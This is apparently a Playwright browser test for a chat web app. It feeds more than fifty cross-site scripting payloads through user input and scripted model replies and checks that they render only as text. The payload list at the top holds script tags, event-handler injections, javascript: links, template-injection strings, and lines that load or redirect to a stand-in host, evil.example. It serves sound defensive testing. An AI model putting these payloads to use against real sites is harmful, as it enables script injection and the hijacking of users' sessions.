"""Markup of a guest is read as text, markup of a model not at all, and the page stays the page."""

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.live_server import run_live_server
from tests.vendors.gemini import KEY, ScriptedGemini

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.any_database]

HANDLERS = ("onerror", "onload", "ontoggle")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "video src=x",
    "details open",
    "input autofocus",
    "a href=x",
)
SCRIPTS = (
    "<script>window.hit=1</script>",
    "</p><script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>window.hit=1</script>",
    "<svg><script>window.hit=1</script></svg>",
    "<math><mi//xlink:href='data:x,<script>window.hit=1</script>'>",
    "<a href='javascript:window.hit=1'>look</a>",
    "<form action=//evil.example><button>Go</button></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\"><img src=x onerror=window.hit=1>",
    "'-window.hit=1-'",
    "#{window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "[this](javascript:window.hit=1)",
    "![x](x onerror=window.hit=1)",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
)  # fmt: skip
PAYLOADS = SCRIPTS + tuple(f"<{tag} {handler}=window.hit=1>" for tag in TAGS for handler in HANDLERS)
ELEMENTS = "document.querySelectorAll('.turn .words *').length"


@pytest.fixture(scope="module")
def hostile():
    with ScriptedGemini() as server:
        yield server


@pytest.fixture(scope="module")
def bar(hostile, tmp_path_factory):
    with run_live_server(
        tmp_path_factory.mktemp("hostile"), GEMINI_API_KEY=KEY, GEMINI_BASE_URL=hostile.address
    ) as address:
        yield address


def test_fifty_payloads_reach_the_page_as_text_only(page: Page, browser: Browser, hostile):
    assert len(PAYLOADS) >= 50
    page.set_default_timeout(20_000)
    page.goto("/")
    expect(page.locator("[data-link][data-state=live]")).to_be_visible()
    for number in range(0, len(PAYLOADS), 10):
        some = PAYLOADS[number : number + 10]
        hostile.forget()
        hostile.always([f"So they say, {number}. ", *(f"{payload} is what they say. " for payload in some)])
        page.fill("#message", " and ".join(some))
        page.press("#message", "Enter")
        turn = page.locator(".turn:last-child")
        expect(turn.locator(".said .words")).to_contain_text(some[-1].strip(), timeout=20_000)
        expect(turn.locator(".reply .words")).to_contain_text(f"So they say, {number}.", timeout=20_000)
        expect(turn.locator(".reply .words")).not_to_contain_text("<")

    assert page.evaluate("window.hit") is None
    assert page.evaluate(ELEMENTS) == 0

    page.reload()  # now written by the server
    expect(page.locator(".turn").last).to_be_visible()
    assert page.evaluate("window.hit") is None
    assert page.evaluate(ELEMENTS) == 0
